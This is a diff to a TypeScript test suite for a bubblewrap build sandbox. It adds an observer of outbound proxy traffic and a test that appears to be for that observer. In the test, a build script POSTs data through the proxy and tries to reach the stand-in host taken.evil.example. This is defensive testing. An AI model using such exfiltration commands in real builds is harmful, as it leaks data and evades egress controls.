@@ -56,6 +56,7 @@ describe('builds in bubblewrap', { skip: missing ?? false }, () => {
     });
     const decisions: EgressDecision[] = [];
     const carried: EgressCounts[] = [];
+    const sent: string[] = [];
     let isolation: Isolation;
     let port: number;
     before(async () => {
@@ -67,7 +68,11 @@ describe('builds in bubblewrap', { skip: missing ?? false }, () => {
       const onDecision = (decision: EgressDecision): void => void decisions.push(decision);
       const onCarried = (counts: Readonly<EgressCounts>): void => void carried.push({ ...counts });
       const mirrors = { npm: `http://127.0.0.1:${port}/npm/`, go: `http://127.0.0.1:${port}/go` };
-      const egress = { allow: [entry], mirrors, nodeBinary: node, onDecision, onCarried };
+      const onSent = ({ host }: { readonly host: string }) => ({
+        see: (bytes: Uint8Array) => void sent.push(`${host} ${Buffer.from(bytes).toString()}`),
+        end: () => undefined,
+      });
+      const egress = { allow: [entry], mirrors, nodeBinary: node, onDecision, onCarried, onSent };
       isolation = bubblewrapIsolation({ nodeBinary: node, egress });
     });
     after(() => {
@@ -100,6 +105,21 @@ describe('builds in bubblewrap', { skip: missing ?? false }, () => {
       const { output } = await run(isolation, through('evil.example:443'), { egress: true });
       assert.match(output, /^egress to evil\.example:443 is not in this pool's list; ask/m);
       assert.equal(decisions.splice(0)[0]?.reason, 'not-listed');
+    });
+
+    test('shows whoever watches what a build says and sends on it', async () => {
+      sent.splice(0);
+      const script = `node -e '
+        const proxy = new URL(process.env.https_proxy);
+        const at = { host: proxy.hostname, port: proxy.port, method: "POST", path: "http://127.0.0.1:${port}/" };
+        const request = require("http").request(at);
+        request.on("error", () => {}); request.end("taken along")'; ${through('taken.evil.example:443')}`;
+      await run(isolation, script, { egress: true });
+      decisions.splice(0);
+      const shown = sent.join('\n');
+      assert.match(shown, /^127\.0\.0\.1 POST http:/m);
+      assert.match(shown, /^127\.0\.0\.1 taken along$/m);
+      assert.match(shown, /^taken\.evil\.example CONNECT taken/m);
     });
 
     test('is the only one: what is listed cannot be reached past it', async () => {
